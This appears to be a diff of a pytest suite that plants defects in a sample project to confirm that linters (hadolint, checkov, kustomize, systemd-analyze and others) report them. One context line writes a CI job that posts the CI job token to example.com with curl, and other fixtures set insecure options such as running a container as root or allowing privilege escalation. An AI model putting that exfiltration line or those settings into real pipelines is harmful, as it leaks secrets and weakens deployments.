@@ -20,6 +20,7 @@ PLANTED = {
     "parse-yaml-json-toml": ("params.yaml", "a: 1\n", "a: 1\nb: [unclosed\n", 3),
     "python-compiles": ("pkg/mod.py", "x = 1\n", "x = 1\ndef broken(:\n", 2),
     "ruff": ("pkg/mod.py", "import os\n\nprint(os.sep)\n", "import os\nimport sys\n\nprint(os.sep)\n", 2),
+    "shellcheck": ("run.sh", '#!/bin/sh\necho "$1"\n', "#!/bin/sh\necho $1\n", 2),
 }
 
 
@@ -151,3 +152,71 @@ def test_checkov_gitlab_ci_checker_reports_planted_defect(tmp_path):
     path.write_text('lint:\n  script:\n    - curl -d "$CI_JOB_TOKEN" https://example.com\n')
     findings = CHECKERS["checkov-gitlab-ci"].run(tmp_path, answers)
     assert findings and all(f.path.endswith(".gitlab-ci.yml") for f in findings), findings
+
+
+# ── Images and Kubernetes: the checkers find a defect planted in a copy of the default project ──
+def _copy_of(project, tmp_path):
+    copy = tmp_path / "project"
+    shutil.copytree(project, copy, ignore=shutil.ignore_patterns(".git"))
+    return copy
+
+
+def _break(path, old, new):
+    text = path.read_text()
+    assert old in text, f"{old!r} not in {path}"
+    path.write_text(text.replace(old, new, 1))
+
+
+def test_hadolint_reports_a_planted_defect_and_a_broken_config(default_project, tmp_path):
+    project = _copy_of(default_project, tmp_path)
+    answers = read_answers(project)
+    assert CHECKERS["hadolint"].run(project, answers) == []
+    _break(project / "docker/serve/Dockerfile", "WORKDIR /srv", "WORKDIR /srv\nRUN cd /tmp")
+    findings = CHECKERS["hadolint"].run(project, answers)
+    assert any(f.path == "docker/serve/Dockerfile" and f.message.startswith("DL3003") for f in findings), findings
+    (project / ".hadolint.yaml").write_text("ignored:\n  # reason\n[]\n")  # hadolint itself exits 0 on this
+    assert CHECKERS["hadolint"].run(project, answers), "a broken .hadolint.yaml must be reported"
+
+
+def test_checkov_dockerfile_reports_a_root_image(default_project, tmp_path):
+    project = _copy_of(default_project, tmp_path)
+    answers = read_answers(project)
+    _break(project / "docker/serve/Dockerfile", "USER 10001:10001\n", "")
+    findings = CHECKERS["checkov-dockerfile"].run(project, answers)
+    assert any("CKV_DOCKER_3" in f.message for f in findings), findings
+
+
+def test_kubernetes_checkers_report_planted_defects(default_project, tmp_path):
+    project = _copy_of(default_project, tmp_path)
+    answers = read_answers(project)
+    base = project / "deploy/k8s/base"
+    # An unknown field: kustomize renders it, the strict schema validation refuses it.
+    _break(base / "serve.yaml", "      automountServiceAccountToken: false", "      automountServiceAcountToken: false")
+    findings = CHECKERS["kubernetes-validate"].run(project, answers)
+    assert findings and all(f.path.startswith("deploy/k8s/overlays/aws/") for f in findings), findings
+    assert any("automountServiceAcountToken" in f.message for f in findings), findings
+
+    project = _copy_of(default_project, tmp_path / "2")
+    _break(project / "deploy/k8s/base/serve.yaml", "allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true")
+    findings = CHECKERS["checkov-kubernetes"].run(project, answers)
+    assert any("CKV_K8S_20" in f.message and f.path == "deploy/k8s/overlays/aws/dev" for f in findings), findings
+
+    project = _copy_of(default_project, tmp_path / "3")
+    _break(project / "deploy/k8s/base/kustomization.yaml", "  - serve.yaml", "  - serve.yaml\n  - missing.yaml")
+    findings = CHECKERS["kustomize"].run(project, answers)
+    assert len(findings) == len(answers["environments"]) and "missing.yaml" in findings[0].message, findings
+    shutil.rmtree(project / "deploy/k8s/overlays/aws/prod")
+    assert any(f.message == "missing overlay" for f in CHECKERS["kustomize"].run(project, answers))
+
+
+def test_systemd_analyze_reports_an_unknown_key_and_a_bad_value(tmp_path):
+    units = tmp_path / "deploy/vm/units"
+    units.mkdir(parents=True)
+    unit = units / "app.service"
+    unit.write_text("[Unit]\nDescription=app\n\n[Service]\nExecStart=/usr/bin/true\nRestartSec=10\n")
+    answers = {"compute_platform": "vm"}
+    assert CHECKERS["systemd-analyze"].run(tmp_path, answers) == []
+    unit.write_text("[Unit]\nDescription=app\n\n[Service]\nExecStart=/usr/bin/true\nRestartSec=ten\nRestartAlways=1\n")
+    findings = CHECKERS["systemd-analyze"].run(tmp_path, answers)
+    path = "deploy/vm/units/app.service"
+    assert [(f.path, f.line) for f in findings] == [(path, 6), (path, 7)], findings
